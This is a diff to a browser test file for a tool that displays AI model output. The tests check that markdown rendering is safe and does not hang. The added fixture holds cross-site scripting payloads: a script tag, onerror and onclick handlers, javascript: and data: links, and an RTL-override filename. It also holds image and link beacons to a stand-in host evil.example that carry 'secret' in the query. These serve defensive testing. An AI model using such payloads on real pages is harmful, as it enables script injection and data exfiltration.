@@ -173,7 +173,7 @@ def test_what_a_model_wrote_is_text(show: Show) -> None:
     assert "[U+202E]gnp.exe[U+2066] [U+001B][31m" in text
     assert page.evaluate("window.pwned") is None
     assert page.locator("#content a, #content script, svg[onload], img, #table a").count() == 0
-    assert page.locator("script").count() == 4
+    assert page.locator("script").count() == 5
 
 
 ATTACK = """async (url) => {
@@ -376,6 +376,72 @@ def test_a_conversation_is_bubbles(show: Show) -> None:
     right = [bubbles.nth(index).bounding_box() for index in range(4)]
     edges = [box["x"] + box["width"] for box in right]
     assert edges[1] == edges[3] > max(edges[0], edges[2])
+
+
+MARKDOWN = f"""# Steps
+
+1. *Take* **34 - 17**, ~~not~~ `17`:
+
+```html
+<script>window.pwned = 1</script>
+```
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+<img src=x onerror=window.pwned=2> <b>bold</b>
+
+<div onclick="window.pwned=3">
+block
+</div>
+
+![secret](https://evil.example/p.png?q=secret "t") [a page](https://evil.example/?q=1)
+<https://evil.example/auto> [run](javascript:window.pwned=4) [data](data:text/html,x)
+![i](data:image/svg+xml,x) [reference][r] {HOSTILE}
+
+[r]: https://evil.example/r
+"""
+
+
+def test_markdown_is_rendered_on_demand_and_by_a_list_of_what_it_may_make(show: Show) -> None:
+    page = show([response(MARKDOWN, prompt=MARKDOWN)])
+    page.evaluate("openRow(0)")
+    assert page.locator("#content :is(h1, .rendered)").count() == 0
+    page.keyboard.press("m")
+    assert page.locator("#content .rendered").count() == 2
+    answer = page.locator("#content .rendered").last
+    for tag, text in (("h1", "Steps"), ("em", "Take"), ("strong", "34 - 17"), ("s", "not"), ("td", "1")):
+        assert answer.locator(tag).first.inner_text() == text
+    assert "<script>window.pwned = 1</script>" in answer.locator("pre").inner_text()
+    text = answer.inner_text()
+    for shown in (
+        "<img src=x onerror=window.pwned=2> <b>bold</b>", '<div onclick="window.pwned=3">',
+        "[secret] (https://evil.example/p.png?q=secret)", "a page (https://evil.example/?q=1)",
+        "[run](javascript:window.pwned=4)", "[data](data:text/html,x)", "[U+202E]gnp.exe",
+        "reference (https://evil.example/r)",
+    ):  # fmt: skip
+        assert shown in text
+    made = page.evaluate("[...document.querySelectorAll('.rendered *')].map((node) => node.localName)")
+    assert {*made} <= {
+        "h1", "p", "ol", "li", "em", "strong", "s", "code", "pre", "table", "thead", "tbody", "tr", "th",
+        "td", "br",
+    }  # fmt: skip
+    attributes = "[...document.querySelectorAll('.rendered *')].flatMap((node) => node.getAttributeNames())"
+    assert {*page.evaluate(attributes)} <= {"class", "start"}
+    assert page.evaluate("window.pwned") is None
+    page.get_by_role("button", name="Markdown").click()
+    assert page.locator("#content .rendered").count() == 0
+
+
+@pytest.mark.parametrize(
+    "text", ["[" * 50_000, "> " * 20_000 + "a", "* " * 20_000, "*a_" * 30_000, "`" * 60_000]
+)
+def test_markdown_that_is_all_marks_is_shown(show: Show, text: str) -> None:
+    page = show([response(text)])
+    page.evaluate("openRow(0)")
+    page.keyboard.press("m")
+    page.wait_for_selector("#content .rendered")
 
 
 def test_a_long_difference_is_not_computed(show: Show) -> None:
